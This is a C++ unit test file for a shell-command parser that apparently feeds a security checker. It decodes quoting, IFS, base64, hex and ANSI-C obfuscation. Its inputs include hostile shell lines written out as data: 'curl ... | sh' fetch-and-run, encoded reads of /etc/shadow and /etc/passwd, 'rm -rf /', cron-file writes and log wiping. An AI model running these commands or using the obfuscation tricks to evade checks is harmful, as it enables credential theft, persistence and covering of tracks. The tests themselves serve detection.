// The shell reader: quoting, lists, substitutions, here-docs and variable tricks.
#include <gtest/gtest.h>

#include "shell_command.hpp"
#include "shell_parser.hpp"

namespace nonaxis::ciso::detail {
namespace {

std::vector<std::string> rendered(const std::string& src) {
  VarMap vars;
  std::vector<std::string> out;
  for (const auto& c : parse_shell(src, vars).commands) out.push_back(effective_command(c).rendered);
  return out;
}

TEST(ShellParser, QuotingAndLists) {
  EXPECT_EQ(rendered("echo 'a b' \"c d\" e\\ f && ls -l; pwd || true"),
            (std::vector<std::string>{"echo a b c d e f", "ls -l", "pwd", "true"}));
}

TEST(ShellParser, PipelinesShareAnIndex) {
  VarMap vars;
  const auto p = parse_shell("cat a | grep b | sort; ls", vars);
  ASSERT_EQ(p.commands.size(), 4u);
  EXPECT_EQ(p.commands[0].pipeline, p.commands[2].pipeline);
  EXPECT_NE(p.commands[2].pipeline, p.commands[3].pipeline);
  EXPECT_TRUE(p.commands[1].piped_in);
  EXPECT_TRUE(p.commands[1].piped_out);
}

// A script that sets IFS splits unquoted expansions on its characters.
TEST(ShellParser, AssignedIfsSplitsExpansions) {
  EXPECT_EQ(rendered("IFS=,;cmd=curl,http://198.51.100.3/x;$cmd"),
            (std::vector<std::string>{"IFS=,", "cmd=curl,http://198.51.100.3/x", "curl http://198.51.100.3/x"}));
  EXPECT_EQ(rendered("IFS=,;cmd=\"curl,x\";echo \"$cmd\""), (std::vector<std::string>{"IFS=,", "cmd=curl,x", "echo curl,x"}));
}

// An unquoted expansion that starts a word is split like any other.
TEST(ShellParser, LeadingExpansionIsSplit) {
  EXPECT_EQ(rendered("c=\"curl -s http://x\"; $c | sh"), (std::vector<std::string>{"c=curl -s http://x", "curl -s http://x", "sh"}));
}

// Static command substitutions: the word keeps its spelling and also carries what the
// substitution outputs; a substitution that depends on anything else has no such reading.
TEST(ShellParser, StaticSubstitutionsCarryTheirOutput) {
  VarMap vars;
  const auto p = parse_shell("cat $(echo L2V0Yy9zaGFkb3c= | base64 -d) x$(echo 2f6574 | xxd -r -p)y `echo ab | rev` $(id -u)", vars);
  ASSERT_EQ(p.commands.size(), 1u);
  const auto& w = p.commands[0].words;
  ASSERT_EQ(w.size(), 5u);
  EXPECT_TRUE(w[1].alt.has_value());
  EXPECT_EQ(w[1].alt.value_or(""), "/etc/shadow");
  EXPECT_EQ(w[2].alt.value_or(""), "x/ety");
  EXPECT_EQ(w[3].alt.value_or(""), "ba");
  EXPECT_FALSE(w[4].alt.has_value());
  EXPECT_EQ(w[1].text, "$(echo L2V0Yy9zaGFkb3c= | base64 -d)");
  // An assignment from one binds the output; `$()` is empty.
  VarMap v2;
  EXPECT_EQ(effective_command(parse_shell("f=$(printf %s /etc/shadow); cat $f", v2).commands[1]).rendered, "cat /etc/shadow");
  VarMap v3;
  EXPECT_EQ(parse_shell("c$()url x", v3).commands[0].words[0].alt.value_or(""), "curl");
  // A pipeline stage without a program is no filter.
  VarMap v4;
  EXPECT_FALSE(parse_shell("cat $(echo x | >/tmp/y)", v4).commands[0].words[1].alt.has_value());
}

// Variables the script never sets, wedged between letters, and one-character slices of HOME.
TEST(ShellParser, EmptyAndSlicedVariablesReadAsTheShellExpandsThem) {
  EXPECT_EQ(rendered("cat /etc/sh${u}adow"), (std::vector<std::string>{"cat /etc/shadow"}));
  EXPECT_EQ(rendered("cat ${HOME:0:1}etc${HOME:0:1}shadow"), (std::vector<std::string>{"cat /etc/shadow"}));
  EXPECT_EQ(rendered("x=abcdef; echo ${x:1:3}"), (std::vector<std::string>{"x=abcdef", "echo bcd"}));
  EXPECT_EQ(rendered("rm -rf $D/"), (std::vector<std::string>{"rm -rf $D/"}));  // not between letters
}

TEST(ShellParser, RedirectionsAreRendered) {
  EXPECT_EQ(rendered("echo x >> /etc/cron.d/job 2>/dev/null"), (std::vector<std::string>{"echo x >>/etc/cron.d/job 2>/dev/null"}));
  EXPECT_EQ(rendered("echo 0> /var/log/secure"), (std::vector<std::string>{"echo 0>/var/log/secure"}));
}

TEST(ShellParser, WrappersAreStripped) {
  EXPECT_EQ(rendered("sudo -u root env A=1 nohup nice -n 5 curl -s x"), (std::vector<std::string>{"curl -s x"}));
  EXPECT_EQ(rendered("find . -print0 | xargs -0 -I{} rm {}")[1], "rm {}");
}

TEST(ShellParser, CommandSubstitutionBodiesAreCollected) {
  VarMap vars;
  const auto p = parse_shell("x=$(curl -s http://a.example) ; echo `id`", vars);
  ASSERT_EQ(p.substitutions.size(), 2u);
  EXPECT_EQ(p.substitutions[0].text, "curl -s http://a.example");
  EXPECT_EQ(p.substitutions[1].text, "id");
}

TEST(ShellParser, HereDocBodyIsAttached) {
  VarMap vars;
  const auto p = parse_shell("bash <<'EOF'\ncurl x | sh\nEOF\necho done\n", vars);
  ASSERT_EQ(p.commands.size(), 2u);
  ASSERT_EQ(p.commands[0].redirects.size(), 1u);
  EXPECT_EQ(p.commands[0].redirects[0].body, "curl x | sh\n");
  EXPECT_EQ(effective_command(p.commands[1]).rendered, "echo done");
}

TEST(ShellParser, VariablesAssignedByTheScriptAreExpanded) {
  EXPECT_EQ(rendered("a=cu; b=rl; $a$b -s x")[0], "a=cu");
  EXPECT_EQ(rendered("a=cu; b=rl; $a$b -s x")[2], "curl -s x");
  EXPECT_EQ(rendered("cmd=\"base64 -d\"; cat f | $cmd")[2], "base64 -d");
  EXPECT_EQ(rendered("echo $UNKNOWN ${HOME}")[0], "echo $UNKNOWN $HOME");
}

// A value known only at run time must not read as empty: `rm -rf $D/*` is not `rm -rf /*`
// (that was a reject for every script cleaning up its mktemp directory), and
// `/proc/$PID/mem` keeps its variable. A literal empty value still expands to nothing.
TEST(ShellParser, RuntimeValuesStayUnexpanded) {
  EXPECT_EQ(rendered("D=$(mktemp -d); rm -rf $D/*")[1], "rm -rf $D/*");
  EXPECT_EQ(rendered("PID=$(pgrep sshd); cat /proc/$PID/mem")[1], "cat /proc/$PID/mem");
  EXPECT_EQ(rendered("D=/tmp/x; D=$(mktemp -d); rm -rf $D/")[2], "rm -rf $D/");
  EXPECT_EQ(rendered("D=$(mktemp -d); D=/tmp/x; rm -rf $D/")[2], "rm -rf /tmp/x/");
  EXPECT_EQ(rendered("D=; rm -rf $D/")[1], "rm -rf /");
}

TEST(ShellParser, IfsAndAnsiCAreDecoded) {
  VarMap vars;
  const auto p = parse_shell("cat${IFS}/etc/passwd; $'\\x63\\x75\\x72\\x6c' x", vars);
  ASSERT_EQ(p.commands.size(), 2u);
  EXPECT_EQ(effective_command(p.commands[0]).rendered, "cat /etc/passwd");
  EXPECT_EQ(effective_command(p.commands[1]).rendered, "curl x");
  EXPECT_EQ(p.ifs_expansions, 1u);
  EXPECT_EQ(p.ansi_c_encoded, 4u);
}

TEST(ShellParser, KeywordsAndCommentsAreSkipped) {
  EXPECT_EQ(rendered("if [ -f x ]; then rm x; fi # rm -rf /"),
            (std::vector<std::string>{"[ -f x ]", "rm x"}));
  EXPECT_EQ(rendered("for f in a b; do echo $f; done"), (std::vector<std::string>{"echo a b"}));
}

// The body of `for NAME in LIST` runs on each item, so NAME reads as the list; a list known
// only at run time, or no list at all ("$@"), leaves NAME unexpanded.
TEST(ShellParser, ForLoopVariableIsBoundToItsList) {
  EXPECT_EQ(rendered("for f in /var/log/*.log; do > \"$f\"; done"), (std::vector<std::string>{">/var/log/*.log"}));
  EXPECT_EQ(rendered("for f in /var/log/*.log\ndo\n  : > \"$f\"\ndone"), (std::vector<std::string>{": >/var/log/*.log"}));
  EXPECT_EQ(rendered("d=/etc; for f in $d/shadow $d/gshadow; do cat $f; done")[1], "cat /etc/shadow /etc/gshadow");
  EXPECT_EQ(rendered("for f in $(ls /var/log); do rm \"$f\"; done"), (std::vector<std::string>{"rm $f"}));
  EXPECT_EQ(rendered("f=/tmp/x; for f; do rm \"$f\"; done"), (std::vector<std::string>{"f=/tmp/x", "rm $f"}));
  EXPECT_EQ(rendered("case $x in a) echo $x ;; esac").back(), "echo $x");
}

TEST(ShellParser, UnterminatedInputDoesNotHang) {
  for (const char* s : {"echo 'abc", "echo \"abc", "echo $(ls", "cat <<EOF\nx", "echo `id", "${", "$'\\x"}) {
    VarMap vars;
    (void)parse_shell(s, vars);
  }
  SUCCEED();
}

}  // namespace
}  // namespace nonaxis::ciso::detail
